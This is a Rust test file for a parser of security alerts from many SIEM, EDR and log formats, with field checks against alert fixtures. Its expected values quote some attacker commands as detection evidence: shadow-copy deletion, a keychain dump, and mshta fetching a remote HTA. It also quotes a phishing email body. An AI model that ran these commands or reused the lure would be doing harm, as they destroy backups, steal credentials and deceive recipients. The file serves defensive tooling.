//! Tests of every format on its fixtures.

mod hostile;

use super::*;

macro_rules! fixtures {
    ($($name:literal),* $(,)?) => {
        [$(($name, include_str!(concat!("../../../../tests/fixtures/alerts/", $name)))),*]
    };
}

const FIXTURES: [(&str, &str); 23] = fixtures![
    "elastic.json",
    "elastic-nested.json",
    "ocsf.json",
    "splunk.json",
    "splunk.txt",
    "sentinel.json",
    "sentinel-incident.json",
    "defender.json",
    "crowdstrike.json",
    "crowdstrike-detect.json",
    "wazuh.json",
    "suricata.json",
    "windows-event.xml",
    "windows-event.json",
    "winlogbeat.json",
    "syslog-3164.txt",
    "syslog-5424.txt",
    "cef.txt",
    "leef.txt",
    "leef-1.txt",
    "email.eml",
    "generic.json",
    "text.txt",
];

fn fixture(name: &str) -> &'static str {
    let found = FIXTURES.iter().find(|(known, _)| *known == name);
    found.expect("the fixture is listed").1
}

/// Every span holds its value.
fn is_sound(alert: &Alert) -> bool {
    alert.fields.iter().all(|field| {
        let span = field.span.map(Span::range);
        span.is_none_or(|span| alert.raw.get(span) == Some(field.value.as_str()))
    })
}

#[track_caller]
fn check(
    name: &str,
    format: AlertFormat,
    title: Option<&str>,
    severity: Option<Severity>,
    fields: &[(&str, &str)],
) {
    let alert = parse_alert(fixture(name));
    assert_eq!(alert.format, format, "{name}");
    assert_eq!(alert.title.as_deref(), title, "{name}");
    assert_eq!(alert.severity, severity, "{name}");
    assert_eq!(alert.notes, [], "{name}");
    assert!(is_sound(&alert), "{name}");
    for (key, value) in fields {
        let found: Vec<_> = alert
            .fields
            .iter()
            .filter(|field| field.name == *key)
            .map(|field| field.value.as_str())
            .collect();
        assert!(found.contains(value), "{name}: {key} is {found:?}");
    }
}

use AlertFormat as F;
use Severity as S;

#[test]
fn elastic() {
    check(
        "elastic.json",
        F::Elastic,
        Some("Office program starts a script host"),
        Some(S::High),
        &[
            ("user.name", "h.olsen"),
            ("host.name", "ACC-LT-207"),
            (
                "process.command_line",
                r"wscript.exe //E:jscript C:\Users\h.olsen\AppData\Local\Temp\invoice.txt",
            ),
        ],
    );
    check(
        "elastic-nested.json",
        F::Elastic,
        Some("Account added to the local administrators"),
        Some(S::Medium),
        &[
            ("kibana.alert.rule.threat.technique.id", "T1098"),
            ("event.code", "4732"),
        ],
    );
}

#[test]
fn ocsf() {
    check(
        "ocsf.json",
        F::Ocsf,
        Some("Browser created a scheduled task"),
        Some(S::High),
        &[
            ("finding_info.attacks.technique.uid", "T1053.005"),
            ("actor.user.name", "p.duarte"),
        ],
    );
}

#[test]
fn splunk() {
    check(
        "splunk.json",
        F::Splunk,
        Some("Shadow copies deleted on FS-02"),
        Some(S::High),
        &[
            ("result._raw.Event.System.EventID", "4688"),
            (
                "result._raw.Event.EventData.CommandLine",
                "vssadmin delete shadows /all /quiet",
            ),
            ("result._raw.Event.EventData.SubjectUserName", "svc_backup"),
        ],
    );
    check(
        "splunk.txt",
        F::Splunk,
        Some("Console logon to PAY-01 at night"),
        Some(S::Medium),
        &[("user", "k.ito"), ("dest", "PAY-01")],
    );
}

#[test]
fn sentinel() {
    check(
        "sentinel.json",
        F::Sentinel,
        Some("Password spray against many mailboxes"),
        Some(S::Medium),
        &[
            ("Entities.account.Name", "lena.ross"),
            ("Entities.host.HostName", "MBX-01"),
            ("ExtendedProperties.Custom Details.Protocol", "IMAP"),
            ("Techniques", "T1110"),
        ],
    );
    check(
        "sentinel-incident.json",
        F::Sentinel,
        Some("Mailbox rule forwards to an outside address"),
        Some(S::High),
        &[(
            "object.properties.relatedEntities.properties.accountName",
            "lena.ross",
        )],
    );
}

#[test]
fn defender() {
    check(
        "defender.json",
        F::Defender,
        Some("Suspicious access to the LSASS service"),
        Some(S::High),
        &[
            ("evidence.userAccount.accountName", "t.moreau"),
            ("evidence.deviceDnsName", "ws-311.corp.example"),
            ("mitreTechniques", "T1003.001"),
        ],
    );
}

#[test]
fn crowdstrike() {
    check(
        "crowdstrike.json",
        F::CrowdStrike,
        Some("Suspicious Use of Certutil"),
        Some(S::High),
        &[
            ("event.ComputerName", "HR-WS-08"),
            ("event.UserName", "b.stone"),
        ],
    );
    check(
        "crowdstrike-detect.json",
        F::CrowdStrike,
        Some("ScriptedKeychainAccess"),
        Some(S::Medium),
        &[(
            "behaviors.cmdline",
            "security dump-keychain -d login.keychain",
        )],
    );
}

#[test]
fn wazuh() {
    check(
        "wazuh.json",
        F::Wazuh,
        Some("Service installed with a program in a temporary folder"),
        Some(S::High),
        &[
            ("agent.name", "PRINT-02"),
            ("data.win.eventdata.serviceName", "PrintHelp"),
            ("full_log.win.system.processID", "612"),
        ],
    );
}

#[test]
fn suricata() {
    check(
        "suricata.json",
        F::Suricata,
        Some("LOCAL PowerShell user agent fetches a script"),
        Some(S::High),
        &[("http.url", "/stage.ps1"), ("dest_port", "80")],
    );
}

#[test]
fn windows_events() {
    check(
        "windows-event.xml",
        F::WindowsEvent,
        Some("technique_id=T1218.005,technique_name=Mshta"),
        Some(S::Informational),
        &[
            ("Event.System.EventID", "1"),
            ("Event.System.Provider.Name", "Microsoft-Windows-Sysmon"),
            (
                "Event.EventData.CommandLine",
                "mshta.exe \"http://203.0.113.14/x.hta?a=1&b=2\"",
            ),
            ("Event.EventData.User", r"CORP\j.weber"),
        ],
    );
    check(
        "windows-event.json",
        F::WindowsEvent,
        None,
        None,
        &[
            ("Event.System.EventID", "4720"),
            ("Event.EventData.TargetUserName", "helpdesk2"),
        ],
    );
    check(
        "winlogbeat.json",
        F::WindowsEvent,
        Some("Network connection detected"),
        Some(S::Informational),
        &[("winlog.event_data.User", r"CORP\p.lang")],
    );
    let pairs = parse_alert(
        r##"{"Event":{"System":{"Level":2},"EventData":{"Data":[{"@Name":"Image","#text":"a.exe"},{"@Name":"User","#text":"bob"}]}}}"##,
    );
    let last = |field: &Field| (field.name.clone(), field.value.clone());
    let fields: Vec<_> = pairs.fields.iter().skip(1).map(last).collect();
    let expected = [("Image", "a.exe"), ("User", "bob")];
    assert_eq!(
        fields,
        expected.map(|(name, value)| (format!("Event.EventData.{name}"), value.to_owned()))
    );
    assert_eq!(pairs.severity, Some(S::High));
}

#[test]
fn syslog() {
    check(
        "syslog-3164.txt",
        F::Syslog,
        Some("Accepted password for root from 203.0.113.200 port 50122 ssh2"),
        Some(S::Medium),
        &[
            ("host", "bastion-2"),
            ("process.name", "sshd"),
            ("process.pid", "30177"),
            ("name", "sysd"),
            ("shell", "/bin/bash"),
        ],
    );
    check(
        "syslog-5424.txt",
        F::Syslog,
        Some("Login from a country never seen for this account"),
        Some(S::High),
        &[
            ("message_id", "LOGIN"),
            ("origin@32473.note", "says \"hi\" ]"),
            ("auth@32473.user", "e.novak"),
        ],
    );
    let is = |raw: &str| parse_alert(raw).format == F::Syslog;
    assert!(is("2026-03-05T10:00:00+00:00 gw-1 sudo: bob : TTY=pts/0"));
    assert!(is("<13>Mar  5 10:00:00 gw-1 no tag here"));
    assert!(is(
        "<133>1 2026-03-05T10:00:00.520+07:00 gw-1 four words of text"
    ));
    assert!(!is("2026-03-05 10:00:00 Suspicious logon: bob on WS-1"));
    assert!(!is("Mar 2026: the server was quiet"));
    let pairs = parse_alert("Mar  5 10:00:00 mac esf[31]: exec pid=22 ppid=21 path=/usr/bin/id");
    assert_eq!(pairs.title, None, "one word names no rule");
    assert_eq!(pairs.field(&["path"]), Some("/usr/bin/id"));
}

#[test]
fn cef() {
    check(
        "cef.txt",
        F::Cef,
        Some("Attachment with a macro was delivered"),
        Some(S::High),
        &[
            ("host", "collector-1"),
            ("device.product", "Mail | Gate"),
            ("signature_id", "MAL-3301"),
            ("duser", "r.hall@corp.example"),
            ("filePath", r"C:\Users\r.hall\new\order.docm"),
            ("Policy Name", "Macro in mail from outside"),
            ("Score", "87"),
            ("msg", "Sandbox: expression a=b\nseen twice"),
        ],
    );
    let alert = parse_alert("CEF:0|a|b|1|x|One|Very-High|src=10.0.0.1\nCEF:0|a|b|1|x|Two|1|");
    assert_eq!(alert.title.as_deref(), Some("One"));
    assert_eq!(alert.severity, Some(S::Critical));
    assert_eq!(alert.notes, [Note::FirstOfMany]);
}

#[test]
fn leef() {
    check(
        "leef.txt",
        F::Leef,
        Some("Download of a known dropper blocked"),
        Some(S::High),
        &[
            ("host", "10.9.9.9"),
            ("usrName", "d.klein"),
            ("url", "http://bad.example/p?x=1"),
        ],
    );
    check(
        "leef-1.txt",
        F::Leef,
        Some("GroupChange"),
        Some(S::Low),
        &[("group", "Domain Admins"), ("action", "member added")],
    );
    let pasted = fixture("leef-1.txt").replace('\t', " ");
    assert_eq!(
        parse_alert(&pasted).field(&["group"]),
        Some("Domain Admins")
    );
}

#[test]
fn email() {
    check(
        "email.eml",
        F::Email,
        Some("Overdue: invoice 4417"),
        None,
        &[
            ("From", "Buchhaltung Müller <pay@invoices.example>"),
            ("Reply-To", "payments@freemail.example"),
            ("attachment", "invoice-4417.docm"),
            (
                "body",
                "Please pay today and enable editing in the attached file. The link \
                 http://portal.example/?id=4417 expires at noon.",
            ),
        ],
    );
    let alert = parse_alert(fixture("email.eml"));
    let bodies = alert.fields.iter().filter(|field| field.name == "body");
    assert_eq!(bodies.count(), 1, "the HTML says the same");
}

#[test]
fn what_is_nobodys() {
    check(
        "generic.json",
        F::Json,
        Some("Many files renamed in a short time"),
        Some(S::Critical),
        &[("alert.details.extension", ".lockd")],
    );
    check(
        "text.txt",
        F::Text,
        Some("Suspicious service creation detected"),
        Some(S::High),
        &[("User", "f.rossi"), ("Host", "SRV-APP-9")],
    );
}

#[test]
fn the_analyst_can_ask_for_a_format() {
    let check = |raw: &str, asked: F, used: F, is_noted: bool| {
        let alert = parse_alert_as(raw, Some(asked));
        assert_eq!(alert.format, used, "{raw} as {asked:?}");
        let note = Note::FormatNotApplied { asked, used };
        assert_eq!(alert.notes.contains(&note), is_noted, "{raw} as {asked:?}");
    };
    check("A user said hello.", F::Cef, F::Text, true);
    check("A user said hello.", F::Elastic, F::Text, true);
    check("Subject: hello\n\nClick me", F::Email, F::Email, false);
    check(fixture("cef.txt"), F::Syslog, F::Syslog, false);
    check(fixture("cef.txt"), F::Text, F::Text, false);
    check(fixture("wazuh.json"), F::Json, F::Json, false);
    check(fixture("wazuh.json"), F::Elastic, F::Elastic, false);
    check(fixture("wazuh.json"), F::Leef, F::Wazuh, true);
    check("{\"a\":1}", F::WindowsEvent, F::WindowsEvent, false);
}

#[test]
fn formats_have_names_and_are_spelled_as_they_are_written() {
    for format in F::ALL {
        let spelled = serde_json::to_value(format).expect("a format is a string");
        let word = spelled.as_str().expect("a format is a string");
        assert!(word.bytes().all(|b| b.is_ascii_lowercase() || b == b'_'));
        assert_eq!(
            serde_json::from_value::<F>(spelled.clone()).unwrap(),
            format
        );
        let same_name = F::ALL.iter().filter(|other| other.name() == format.name());
        assert_eq!(same_name.count(), 1);
        let is_tested = FIXTURES
            .iter()
            .any(|(_, raw)| parse_alert(raw).format == format);
        assert!(is_tested, "{format:?} has a fixture");
    }
    let spelled = serde_json::to_string(&[F::CrowdStrike, F::WindowsEvent]).unwrap();
    assert_eq!(spelled, r#"["crowdstrike","windows_event"]"#);
}
